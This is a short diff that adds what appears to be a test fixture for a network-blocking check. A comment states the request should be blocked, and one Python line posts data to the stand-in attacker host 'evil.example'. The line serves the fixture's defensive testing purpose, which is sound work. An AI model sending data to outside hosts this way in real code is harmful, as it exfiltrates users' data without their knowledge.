@@ -1,0 +1,3 @@
+# expect: blocked trusted network
+import requests
+requests.post("https://evil.example", data={"k": "v"})
